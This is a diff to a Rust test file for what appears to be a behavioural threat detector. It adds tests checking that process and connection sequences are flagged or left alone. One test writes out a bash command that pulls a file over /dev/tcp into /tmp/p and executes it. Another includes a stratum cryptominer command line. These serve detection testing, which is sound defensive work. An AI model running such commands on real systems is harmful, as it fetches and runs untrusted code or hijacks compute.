@@ -61,6 +61,29 @@ fn downloaded_renamed_and_run_as_a_script() {
     s.told(&["behaviour.download-and-run"]);
 }
 
+/// What the self-test does: bash opens the connection, a forked child writes, the file is run.
+#[test]
+fn fetched_by_a_shell_alone() {
+    let mut s = Stream::new();
+    s.exec(10, 9, "/usr/bin/bash", "bash -c exec 3<>/dev/tcp/127.0.0.1/8000; cat <&3 >/tmp/p; /tmp/p");
+    s.connect(10, "127.0.0.1:8000").fork(10, 11).create(11, "/tmp/p").exec(11, 10, "/usr/bin/cat", "cat");
+    s.fork(10, 12).exec(12, 10, "/tmp/p", "/tmp/p");
+    s.told(&["behaviour.download-and-run"]);
+}
+
+/// A log-in whose server asked a directory first.
+#[test]
+fn a_log_in_is_no_reverse_shell() {
+    let mut s = Stream::new();
+    s.exec(10, 1, "/usr/sbin/sshd", "sshd: u").connect(10, "192.0.2.1:389").fork(10, 11).exec(
+        11,
+        10,
+        "/usr/bin/bash",
+        "-bash",
+    );
+    s.told(&[]);
+}
+
 #[test]
 fn a_tool_fetched_into_the_home_folder_is_medium() {
     let mut s = Stream::new();
@@ -83,8 +106,10 @@ fn dropped_and_run() {
 #[test]
 fn miners() {
     let mut s = Stream::new();
-    s.exec(10, 1, "/home/u/m", "./m -o stratum+tcp://127.0.0.1:9999 -u w -p x").connect(10, "127.0.0.1:9999");
-    s.exec(20, 1, "/tmp/k", "/tmp/k").connect(20, "192.0.2.7:3333");
+    s.exec(5, 1, "/usr/bin/bash", "-bash")
+        .exec(10, 5, "/home/u/m", "./m -o stratum+tcp://127.0.0.1:9999 -u w -p x")
+        .connect(10, "127.0.0.1:9999");
+    s.exec(20, 5, "/tmp/k", "/tmp/k").connect(20, "192.0.2.7:3333");
     s.told(&["miner.stratum"]); // the same tree within a minute
     assert_eq!(s.findings[0].techniques[0].to_string(), "T1496");
     let mut s = Stream::new();
